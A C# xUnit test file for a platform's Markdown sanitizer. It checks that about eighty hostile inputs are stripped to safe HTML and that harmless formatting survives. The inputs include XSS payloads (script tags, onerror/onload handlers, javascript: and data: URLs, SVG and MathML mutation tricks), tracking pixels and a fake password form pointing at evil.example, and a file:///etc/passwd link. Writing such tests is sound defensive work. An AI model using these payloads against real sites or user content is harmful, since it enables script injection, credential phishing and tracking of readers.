using Akada.Platform.Html;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Xunit;

namespace Akada.Rules.Courses;

/// <summary>Rule 71: whatever an author or a package writes, nothing of it runs in a reader's browser, and no picture tells another server who reads.</summary>
public sealed class HostileMarkdownTests
{
    private static readonly Markdown Markdown = new();

    private static readonly HashSet<string> Elements =
    [
        "html", "head", "body", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "b", "em", "i", "u", "s", "del", "ins", "mark", "sub", "sup", "small", "a", "img", "figure", "figcaption",
        "ul", "ol", "li", "dl", "dt", "dd", "blockquote", "cite", "q", "abbr", "dfn", "kbd", "samp", "var", "pre", "code", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td",
        "details", "summary", "div", "span", "section", "aside", "input",
    ];

    public static TheoryData<string> Vectors =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\u0000>alert(1)</script>",
        "<script/x>alert(1)</script\t>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"/files/a/b.png\" onload=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=https://evil.example/pixel.gif>",
        "<img src=//evil.example/pixel.gif>",
        "<img src=\"/\\evil.example/pixel.gif\">",
        "<img src=\"/\t/evil.example/pixel.gif\">",
        "<img src=\"\\\\evil.example\\pixel.gif\">",
        "<img src=\"/%09/evil.example/p.gif\" srcset=\"https://evil.example/p.gif 2x\">",
        "![x](https://evil.example/pixel.gif)",
        "![x](//evil.example/pixel.gif)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](/files/a/b.png){onerror=alert(1)}",
        "![x](/files/a/b.png){srcset=https://evil.example/p.gif}",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](  javascript:alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](blob:https://evil.example/1)",
        "[x](file:///etc/passwd)",
        "[x](https://ok.example){onclick=alert(1)}",
        "[x](https://ok.example){style=position:fixed;inset:0}",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=x onclick=alert(1)>x</a>",
        "<a href=x ping=https://evil.example>x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=https://evil.example/x.swf></object>",
        "<embed src=https://evil.example/x.swf>",
        "<applet code=x></applet>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/p)}</style>",
        "<p style=\"background:url(https://evil.example/p)\">x</p>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<form action=https://evil.example><input name=pin type=password><button>Sign in</button></form>",
        "<input type=image src=https://evil.example/p.gif>",
        "<input type=checkbox autofocus onfocus=alert(1)>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video src=https://evil.example/v.mp4 autoplay onerror=alert(1)></video>",
        "<video poster=https://evil.example/p.gif></video>",
        "<audio src=https://evil.example/a.mp3 autoplay></audio>",
        "<table background=https://evil.example/p.gif><tr><td>x</td></tr></table>",
        "<body onload=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<xss contenteditable onbeforeinput=alert(1)>x</xss>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<p class=\"error-summary btn primary\">x</p>",
        "<a id=main href=x>x</a><p data-editor data-reorder=x>x</p>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "*[HTML]: \"><img src=x onerror=alert(1)>\n\nHTML",
        "```html\" onmouseover=\"alert(1)\n<script>alert(1)</script>\n```",
        "# x {onclick=alert(1) style=color:red}",
        "<a href=\"https://ok.example\" target=_blank style=position:fixed;top:0;left:0;width:100%;height:100%>x</a>",
    ];

    [Fact]
    public void Words_stand_where_a_picture_may_not() =>
        Assert.Equal("<p>See a map &amp; more here</p>", Markdown.ToHtml("See ![a map & more](https://evil.example/map.png) here").Trim());

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Rule_71_nothing_executable_and_no_foreign_picture_remains(string hostile)
    {
        var html = Markdown.ToHtml("Before\n\n" + hostile + "\n\nAfter");
        foreach (var element in new HtmlParser().ParseDocument(html).All)
        {
            Assert.Contains(element.LocalName, Elements);
            Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
            foreach (var attribute in element.Attributes) CheckAttribute(element, attribute);
        }
    }

    [Fact]
    public void What_is_harmless_stays()
    {
        var html = Markdown.ToHtml("# Title\n\n**bold** ~~out~~ H~2~O\n\n- [ ] open\n\n|a|b|\n|-|-|\n|1|2|\n\n![p](/files/0/p.png)\n\n[l](https://ok.example)\n\n<details><summary>Answer</summary>\n\n42\n\n</details>");
        foreach (var kept in new[] { "<h1", "<strong>", "<del>", "<sub>", "type=\"checkbox\"", "<td>2</td>", "src=\"/files/0/p.png\"", "href=\"https://ok.example\"", "<summary>Answer</summary>" }) Assert.Contains(kept, html, StringComparison.Ordinal);
    }

    private static void CheckAttribute(IElement element, IAttr attribute)
    {
        Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), attribute.Name);
        Assert.DoesNotContain(attribute.Name, (string[])["style", "srcset", "ping", "action", "formaction", "background", "poster", "autofocus", "target", "srcdoc", "data"]);
        Assert.False(attribute.Name.StartsWith("data-", StringComparison.Ordinal), attribute.Name);
        var value = new string([.. attribute.Value.Where(c => c > ' ')]);
        // As a browser reads it: our own paths only, and never a second slash that would name another server.
        if (attribute.Name == "src") Assert.Matches(@"^/[^/\\]", attribute.Value);
        if (attribute.Name == "src") Assert.Matches(@"^/[^/\\]", value);
        if (attribute.Name == "href" && value.Contains(':', StringComparison.Ordinal) && !value.StartsWith('/') && !value.StartsWith('#')) Assert.Matches("^(https?|mailto|tel):", value.ToLowerInvariant());
        if (attribute.Name == "class") Assert.DoesNotMatch("btn|error-summary|notice", attribute.Value);
        if (element.LocalName == "input") Assert.True(element.GetAttribute("type") == "checkbox");
    }
}
